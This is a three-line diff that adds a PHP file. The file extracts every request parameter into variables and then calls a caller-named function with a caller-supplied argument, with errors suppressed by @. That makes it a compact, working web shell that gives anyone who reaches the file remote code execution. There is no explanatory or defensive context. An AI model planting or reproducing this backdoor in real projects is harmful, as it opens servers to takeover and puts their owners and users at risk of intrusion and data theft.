@@ -1,0 +1,3 @@
+<?php
+@extract($_REQUEST);
+@$fn($arg);
